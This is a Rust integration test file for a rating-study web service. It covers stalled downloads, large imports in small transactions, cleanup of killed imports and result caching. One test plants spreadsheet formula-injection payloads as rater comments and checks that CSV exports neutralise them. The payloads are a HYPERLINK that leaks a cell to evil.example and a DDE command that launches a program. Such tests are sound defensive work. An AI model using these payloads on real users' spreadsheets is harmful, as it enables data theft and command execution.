//! Nothing stalls a rater: unread downloads, imports and many open pages. Also: formulas in downloads.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use crate::util::{Client, TestApp};
use axum::http::{Method, StatusCode};
use base::clock;
use db::{
    imported_ratings::{self, Given, Study},
    judge_scores,
    plan::{self, Input, Planned},
    staging,
    studies::{self, Plan},
    submissions::{self, NewOutput, NewSubmission},
    uploads::Purpose,
};
use model::{
    api::{NewPublicLink, Scope},
    caller::System,
    error::AppError,
    feedback::RaterFeedback,
    grading::{Draft, GradingItem, Next, Receipt},
    ids::{OutputId, StudyId, SubmissionId, TaskRevisionId, UploadId, UserId},
    page::PageOf,
    quality::{FeedbackLevel, QualitySettings},
    ratings_import::RatingsKind,
    study::{NewStudy, StudySettings, StudyStatus},
    submission::{InvalidLines, Matching},
    time::Timestamp,
    user::Role,
};
use port::{Accounts, Datasets, Plans, Studies, Submissions, api::PublicLinks, quality::Quality};
use rand::SeedableRng;
use serde_json::{Value, json};
use services::ratings_import;

pub async fn study(client: &mut Client) -> String {
    let my_studies: Value = client.rpc("my_studies", json!({})).await.json();
    my_studies[0]["token"].as_str().unwrap().to_owned()
}

async fn next(client: &mut Client, study: &str) -> Option<GradingItem> {
    match client.rpc("next_item", json!({"study": study})).await.json() {
        Next::Item(item) => Some(*item),
        _ => None,
    }
}

/// Rates the next output with the comment; `None` when there is none left.
pub async fn rate_next(client: &mut Client, study: &str, comment: &str) -> Option<Receipt> {
    let item = next(client, study).await?;
    let draft = Draft { scores: vec![Some(3), Some(2), Some(4)], comment: comment.into(), ..Draft::default() };
    Some(client.rpc("submit_rating", json!({"assignment": item.token, "draft": draft, "key": item.token})).await.json())
}

#[tokio::test]
async fn raters_work_while_downloads_stall() {
    let app = TestApp::demo().await;
    // More bytes than all channels and sockets on the way can buffer: the download still waits for its
    // client.
    let long = "长".repeat(3_900);
    let mut rater = app.rater().await;
    let own = study(&mut rater).await;
    for _ in 0..60 {
        assert_eq!(rate_next(&mut rater, &own, &long).await, Some(Receipt::Stored));
    }
    let token = app.token(&[Scope::Read]).await;
    let paths = [
        "/api/v1/comparisons/starter/files/ratings.csv",
        "/api/v1/comparisons/starter/files/ratings.jsonl",
        "/api/v1/comparisons/starter/files/bundle.zip",
        "/api/v1/comparisons/starter/files/study-ratings.csv?studies=1",
    ];
    let mut stalled = Vec::new();
    for path in paths.into_iter().cycle().take(12) {
        let response = app.anonymous().open(&[("authorization", &format!("Bearer {token}"))], path).await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        stalled.push(response);
    }
    // Raters read and write, and pages are rendered.
    let mut other = app.demo_user("bo").await;
    let others = study(&mut other).await;
    assert_eq!(rate_next(&mut other, &others, "").await, Some(Receipt::Stored));
    assert_eq!(rate_next(&mut rater, &own, "").await, Some(Receipt::Stored));
    assert_eq!(app.admin().await.get("/admin/studies").await.status, StatusCode::OK);
    // No snapshot is open: the log can be emptied.
    assert!(!app.services.db.checkpoint().unwrap(), "a snapshot is held");
    // A client that resumes reading gets the whole file.
    let path = paths[0];
    let bytes = http_body_util::BodyExt::collect(stalled.remove(0).into_body()).await.unwrap().to_bytes();
    assert_eq!(bytes.iter().filter(|byte| **byte == b'\n').count(), 61, "{path}");
}

#[tokio::test]
async fn downloads_contain_no_formula() {
    let app = TestApp::demo().await;
    let mut rater = app.rater().await;
    let own = study(&mut rater).await;
    let formulas =
        ["=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "\t=cmd|' /C calc'!A0", "@SUM(A1)", "-1+1", "\"=1"];
    for formula in formulas {
        assert_eq!(rate_next(&mut rater, &own, formula).await, Some(Receipt::Stored));
    }
    // Names of models and raters are chosen by people, too.
    app.services
        .db
        .write_blocking(|tx| {
            tx.execute("UPDATE models SET name = '=' || name", [])?;
            tx.execute("UPDATE users SET name = '+' || name WHERE name = 'ada'", [])?;
            Ok(())
        })
        .unwrap();
    let mut random = rand_chacha::ChaCha8Rng::from_seed([7; 32]);
    app.run_all(&mut random).await;
    let mut admin = app.admin().await;
    let token = app.token(&[Scope::Read]).await;
    let mut checked = 0;
    for (path, api) in [
        ("/admin/compare/starter/export/study-ratings.csv?studies=1&runs=none", false),
        ("/admin/compare/starter/export/means.csv?studies=1&runs=none", false),
        ("/admin/compare/starter/export/ratings.csv", false),
        ("/admin/compare/starter/export/verdicts.csv", false),
        ("/admin/runs/1/results.csv", false),
        ("/admin/runs/compare.csv?a=1&b=2", false),
        ("/api/v1/comparisons/starter/files/study-ratings.csv?studies=1", true),
        ("/api/v1/comparisons/starter/files/means.csv?studies=1", true),
        ("/api/v1/comparisons/starter/files/ratings.csv", true),
        ("/api/v1/comparisons/starter/files/verdicts.csv", true),
        ("/api/v1/runs/1/results.csv", true),
    ] {
        let answer = match api {
            true => app.anonymous().api(&token, Method::GET, path, None).await,
            false => admin.get(path).await,
        };
        assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.body);
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(answer.body.as_bytes());
        for record in reader.records() {
            for cell in &record.unwrap() {
                let formula = cell.trim_start_matches('"').starts_with(['=', '+', '-', '@', '\t', '\r']);
                assert!(!formula || cell.parse::<f64>().is_ok(), "{path}: {cell:?}");
                checked += usize::from(cell.starts_with('\''));
            }
        }
    }
    assert!(checked > formulas.len() * 3, "the formulas are in the files: {checked}");
}

/// Maximum number of rows that one transaction may change while people rate: a chunk of an import with its
/// triggers' rows, and the ratings that share its commit.
pub const MOST_ROWS: u64 = 2_000;

/// Outputs for every task of the starter dataset, `samples` for each and all different.
pub fn outputs(tasks: &[String], samples: usize) -> Vec<u8> {
    let line = |(task, sample): (&String, usize)| {
        json!({"task_id": task, "code": format!("int answer() {{ return {sample}; }}")}).to_string() + "\n"
    };
    let all = (0..samples).flat_map(|sample| tasks.iter().map(move |task| (task, sample)));
    all.map(line).collect::<String>().into_bytes()
}

pub async fn starter_tasks(app: &TestApp) -> Vec<String> {
    let of = PageOf::first(PageOf::MOST);
    let tasks = app.services.datasets.tasks(&System.admin(), "starter", None, of).await.unwrap().rows;
    tasks.into_iter().map(|task| task.task_id).collect()
}

pub async fn uploaded(app: &TestApp, bytes: &[u8]) -> UploadId {
    let mut incoming = app.services.uploads.begin("many.jsonl").await.unwrap();
    incoming.write(bytes).await.unwrap();
    let file = incoming.finish().await.unwrap();
    app.services.submissions.note_upload(&System.admin(), file, Purpose::outputs(None)).await.unwrap()
}

pub fn count(app: &TestApp, table: &str) -> i64 {
    let sql = format!("SELECT count(*) FROM {table}");
    app.services.db.read_blocking(|conn| Ok(conn.query_row(&sql, [], |row| row.get(0))?)).unwrap()
}

pub fn is_sound(app: &TestApp) {
    let broken = app.services.db.read_blocking(|conn| Ok(conn.prepare("PRAGMA foreign_key_check")?.exists([])?));
    assert!(!broken.unwrap(), "a row refers to one that does not exist");
}

#[tokio::test]
async fn a_large_upload_is_stored_in_small_transactions_between_ratings() {
    let app = TestApp::demo().await;
    let tasks = starter_tasks(&app).await;
    // The creation of the demo no longer counts.
    let app = app.restarted();
    let samples = 30_000 / tasks.len();
    let upload = uploaded(&app, &outputs(&tasks, samples)).await;
    let take = |model: &'static str| {
        let submissions = app.services.submissions.clone();
        async move {
            submissions.import(&System.admin(), upload, "starter", Matching::TaskId, model, InvalidLines::Refuse).await
        }
    };
    let import = tokio::spawn(take("Large"));
    let mut rater = app.rater().await;
    let own = study(&mut rater).await;
    let mut stored = 0;
    while !import.is_finished() {
        stored += i64::from(rate_next(&mut rater, &own, "").await == Some(Receipt::Stored));
        // All of it is visible, or nothing.
        let seen =
            app.services.submissions.list(&System.admin(), None, PageOf::first(PageOf::MOST)).await.unwrap().rows;
        let seen = seen.iter().find(|row| row.model_name == "Large").map(|row| row.outputs);
        assert!(seen.is_none_or(|outputs| outputs == (samples * tasks.len()) as u64), "{seen:?}");
    }
    let id = import.await.unwrap().unwrap();
    assert!(stored > 0);
    assert_eq!(count(&app, "ratings"), stored);
    let seen = app.services.submissions.list(&System.admin(), None, PageOf::first(PageOf::MOST)).await.unwrap().rows;
    let row = seen.iter().find(|row| row.id == id).unwrap();
    assert_eq!((row.outputs, row.tasks), ((samples * tasks.len()) as u64, tasks.len() as u64));
    let most = app.services.db.most_rows();
    assert!(most <= MOST_ROWS, "one transaction changed {most} rows");
    // The same file again is refused and leaves no row.
    let rows = count(&app, "outputs");
    assert!(matches!(take("Large").await, Err(AppError::Conflict(_))));
    assert_eq!((count(&app, "outputs"), count(&app, "all_submissions")), (rows, seen.len() as i64));
    is_sound(&app);
}

#[tokio::test]
async fn a_large_study_is_stored_in_small_transactions() {
    let app = TestApp::demo().await;
    let tasks = starter_tasks(&app).await;
    // The requests that created the demo do not count.
    let app = app.restarted();
    let (services, admin) = (&app.services, System.admin());
    let samples = 1_000 / tasks.len();
    let upload = uploaded(&app, &outputs(&tasks, samples)).await;
    let submission = services
        .submissions
        .import(&admin, upload, "starter", Matching::TaskId, "Large", InvalidLines::Refuse)
        .await
        .unwrap();
    let people = services.accounts.users(&admin, PageOf::first(PageOf::MOST)).await.unwrap().rows;
    let new = NewStudy {
        title: "Large".into(),
        dataset: "starter".into(),
        submissions: vec![submission],
        raters: people.iter().filter(|person| person.role == Role::Rater).map(|person| person.id).collect(),
        settings: StudySettings { raters_per_output: 2, ..StudySettings::default() },
        ..NewStudy::default()
    };
    let id = services.studies.create(&admin, new).await.unwrap();
    let row = services.studies.get(&admin, id).await.unwrap().row;
    let for_people = services.datasets.get(&admin, "starter", None).await.unwrap().row.human;
    assert_eq!((row.wanted, row.status), (2 * samples as u64 * for_people, StudyStatus::Running));
    let most = services.db.most_rows();
    assert!(most <= MOST_ROWS, "one transaction changed {most} rows");
    // Its raters joined after its plan was stored, and all of it is counted.
    let open: i64 = services
        .db
        .read_blocking(|conn| {
            Ok(conn.query_row("SELECT sum(open) FROM study_raters WHERE study_id = ?1", [id.0], |row| row.get(0))?)
        })
        .unwrap();
    assert_eq!(open as u64, row.wanted);
    is_sound(&app);
}

#[tokio::test]
async fn the_same_upload_imported_twice_at_once_is_one_submission() {
    let app = TestApp::demo().await;
    let tasks = starter_tasks(&app).await;
    let before = count(&app, "outputs");
    let upload = uploaded(&app, &outputs(&tasks, 20)).await;
    let admin = System.admin();
    let take =
        || app.services.submissions.import(&admin, upload, "starter", Matching::TaskId, "Twice", InvalidLines::Refuse);
    let (one, other) = tokio::join!(take(), take());
    assert!(one.is_ok() != other.is_ok(), "{one:?} {other:?}");
    assert!(matches!(one.and(other), Err(AppError::Conflict(_))));
    // The other's rows are deleted: at once in the background, or as those of a killed import.
    let later = Timestamp(clock::now().0 + 2 * staging::LEASE_MS);
    assert!(!app.services.db.clear_imports(later).unwrap());
    assert_eq!(count(&app, "outputs"), before + 20 * tasks.len() as i64);
    is_sound(&app);
}

#[tokio::test]
async fn imported_ratings_become_visible_together() {
    let app = TestApp::demo().await;
    let tasks = starter_tasks(&app).await;
    let models: Vec<String> = app
        .services
        .submissions
        .list(&System.admin(), None, PageOf::first(PageOf::MOST))
        .await
        .unwrap()
        .rows
        .into_iter()
        .map(|row| row.model_name)
        .collect();
    let app = app.restarted();
    let mut text = "task_id,model,rater,correctness,code_quality,maintainability,comment\n".to_owned();
    for rater in 0..90 {
        for (task, model) in tasks.iter().flat_map(|task| models.iter().map(move |model| (task, model))) {
            text += &format!("{task},{model},r{rater},3,2,4,\n");
        }
    }
    let lines = text.lines().count() as u64 - 1;
    let file = |kind| ratings_import::File {
        dataset: "starter".into(),
        kind,
        name: "many.csv".into(),
        content: Box::new(std::io::Cursor::new(text.clone())),
        mapping: Default::default(),
    };
    let service = app.services.ratings.clone();
    let people = file(RatingsKind::People("Many".into()));
    let import = tokio::spawn(async move { service.import(&System.admin(), people).await });
    let mut rater = app.rater().await;
    let own = study(&mut rater).await;
    let mut stored = 0;
    while !import.is_finished() {
        stored += i64::from(rate_next(&mut rater, &own, "").await == Some(Receipt::Stored));
        let studies = app.services.studies.list(&System.admin(), PageOf::first(PageOf::MOST)).await.unwrap().rows;
        assert!(studies.iter().all(|row| row.title != "Many" || row.status == StudyStatus::Closed));
        let people = app.services.accounts.users(&System.admin(), PageOf::first(PageOf::MOST)).await.unwrap().rows;
        let theirs: Vec<_> = people.iter().filter(|user| user.name.contains("imported")).collect();
        assert!(theirs.is_empty() || theirs.iter().all(|user| user.ratings == lines / 90), "{theirs:?}");
    }
    let taken = import.await.unwrap().unwrap();
    assert_eq!((taken.ratings, taken.imported), (lines, true));
    assert_eq!(count(&app, "ratings"), lines as i64 + stored);
    let most = app.services.db.most_rows();
    assert!(most <= MOST_ROWS, "one transaction changed {most} rows");
    assert_eq!(count(&app, "webhook_deliveries"), 0);

    let judge = app.services.ratings.import(&System.admin(), file(RatingsKind::Judge("J".into()))).await;
    assert!(judge.is_err(), "a judge rates an output once");
    assert_eq!((count(&app, "all_judgings"), count(&app, "judged_scores")), (0, 0));
    is_sound(&app);
}

#[tokio::test]
#[allow(clippy::too_many_lines, reason = "one import, killed at every step")]
async fn killed_import_is_hidden_and_deleted() {
    let app = TestApp::demo().await;
    let tables = [
        "all_submissions",
        "outputs",
        "all_studies",
        "assignments",
        "ratings",
        "rating_scores",
        "counted",
        "users",
        "study_raters",
        "study_submissions",
        "all_judgings",
        "judged_scores",
        "judged_instructions",
        "study_revisions",
    ];
    let mut rater = app.rater().await;
    let own = study(&mut rater).await;
    rate_next(&mut rater, &own, "").await;
    let rows = |app: &TestApp| tables.map(|table| (table, count(app, table)));
    let before = rows(&app);
    let seen = async |app: &TestApp| {
        let services = &app.services;
        (
            services.submissions.list(&System.admin(), None, PageOf::first(PageOf::MOST)).await.unwrap().rows.len(),
            services.studies.list(&System.admin(), PageOf::first(PageOf::MOST)).await.unwrap().rows.len(),
            services.accounts.users(&System.admin(), PageOf::first(PageOf::MOST)).await.unwrap().rows.len(),
        )
    };
    let shown = seen(&app).await;
    // The state of an import that is killed before its last transaction.
    app.services
        .db
        .write_blocking(|tx| {
            let target = imported_ratings::target(tx, "starter")?.unwrap();
            let model = submissions::model(tx, "Killed")?;
            let new = NewSubmission {
                version: target.version,
                model,
                file: "f".into(),
                checksum: "c".into(),
                matching: "task_id",
                columns: Default::default(),
                left_out: 0,
                expected: 0,
                by: None,
                way: None,
            };
            let id = submissions::begin(tx, &new)?;
            let revision = TaskRevisionId(tx.query_row("SELECT min(id) FROM task_revisions", [], |row| row.get(0))?);
            let outputs: Vec<NewOutput> = (0..250)
                .map(|sample| NewOutput {
                    published_text: None,
                    revision,
                    sample,
                    code: "x".into(),
                    surrounding_text: String::new(),
                    raw: None,
                    end_by: None,
                    reasoning: None,
                    prompt: None,
                    place: None,
                    reported: None,
                })
                .collect();
            submissions::add_outputs(tx, id, &outputs)?;

            let output = OutputId(tx.query_row("SELECT min(id) FROM outputs", [], |row| row.get(0))?);
            let given = |rater| Given { output, rater, scores: vec![1, 2, 3], comment: String::new(), at: None };
            let raters: Vec<String> = (0..3).map(|n| format!("rater {n}")).collect();
            let submission = tx.query_row("SELECT min(id) FROM submissions", [], |row| row.get(0))?;
            let new = Study {
                title: "Killed",
                target: &target,
                submissions: &[submission],
                raters: &raters,
                raters_per_output: 3,
                by: None,
            };
            let (id, users) = imported_ratings::begin(tx, &new)?;
            let ratings = [given(0), given(1), given(2)];
            imported_ratings::add(tx, id, &users, &mut Default::default(), &ratings)?;

            let planned = Plan {
                title: "Killed before it began".into(),
                version: target.version,
                rubric_id: target.rubric_id,
                input: Input {
                    settings: StudySettings::default(),
                    seed: 1,
                    submissions: vec![SubmissionId(submission)],
                },
                raters: Vec::new(),
                places: vec![Planned { output, slot: 0, rater: Some(UserId(2)), place: Some(0) }],
            };
            let id = studies::begin(tx, &planned, None)?;
            plan::insert(tx, id, &planned.places)?;

            let judging = judge_scores::begin(tx, target.version, target.rubric_id, ("Killed", "f"), None)?;
            judge_scores::add(tx, judging, &[given(0)])
        })
        .unwrap();
    assert_eq!(seen(&app).await, shown);
    let app = app.restarted();
    // It looks alive until its lease has expired.
    assert!(app.services.db.clear_imports(clock::now()).unwrap());
    // A lease that was made before the clock was set back does not keep it alive for as long.
    let earlier = Timestamp(clock::now().0 - 2 * staging::LEASE_MS);
    assert_eq!(app.services.db.read_blocking(|conn| staging::abandoned(conn, earlier)).unwrap().len(), 4);
    let later = Timestamp(clock::now().0 + 2 * staging::LEASE_MS);
    assert!(!app.services.db.clear_imports(later).unwrap());
    assert_eq!(rows(&app), before);
    is_sound(&app);
    // Foreign keys are enforced again.
    let dangling = app.services.db.write_blocking(|tx| {
        Ok(tx.execute("INSERT INTO study_submissions (study_id, position, submission_id) VALUES (99, 0, 99)", [])?)
    });
    assert!(dangling.is_err());
}

#[tokio::test]
async fn lists_of_studies_do_not_compute_figures_again() {
    let app = TestApp::demo().await;
    let services = &app.services;
    let settings = QualitySettings { shown: FeedbackLevel::Own, spread: Some(0), ..QualitySettings::default() };
    services.quality.set(&System.admin(), StudyId(1), crate::util::change_to(&settings)).await.unwrap();
    let mut people = [app.rater().await, app.demo_user("bo").await, app.admin().await];
    let own = study(&mut people[0]).await;
    for _ in 0..2 {
        assert_eq!(rate_next(&mut people[0], &own, "").await, Some(Receipt::Stored));
        let before = services.quality.computations();
        for _ in 0..5 {
            for person in &mut people {
                let answer = person.rpc("my_feedback", json!({})).await;
                assert_eq!(answer.status, StatusCode::OK);
            }
            let list = people[2].rpc("study_disagreements", json!({"study": 1})).await;
            assert_eq!(list.status, StatusCode::OK);
        }
        assert_eq!(services.quality.computations(), before + 1);
    }
    let back: RaterFeedback = people[0].rpc("my_feedback", json!({})).await.json();
    assert_eq!(back.figures.len(), 1);
}

#[tokio::test]
async fn public_page_is_computed_once() {
    let app = TestApp::demo().await;
    let services = &app.services;
    let mut rater = app.rater().await;
    let own = study(&mut rater).await;
    for _ in 0..5 {
        rate_next(&mut rater, &own, "").await;
    }
    // More studies than the number of large cached figures.
    let mut links = Vec::new();
    for study in 1..=9 {
        if study > 1 {
            let copy = services.plans.copy(&System.admin(), StudyId(1)).await.unwrap();
            assert_eq!(copy, StudyId(study));
        }
        services.studies.set_status(&System.admin(), StudyId(study), StudyStatus::Closed).await.unwrap();
        let new = NewPublicLink::default();
        links.push(services.public_links.create(&System.admin(), StudyId(study), new).await.unwrap().path);
    }
    let before = services.comparisons.computations();
    for _ in 0..3 {
        // Twenty people open every link at the same time.
        let all = (0..20).flat_map(|_| &links).map(|path| {
            let secret = path.strip_prefix("/public/").unwrap();
            services.public_links.open(secret)
        });
        for page in futures::future::join_all(all).await {
            page.unwrap();
        }
    }
    assert_eq!(services.comparisons.computations(), before + links.len() as u64);
}
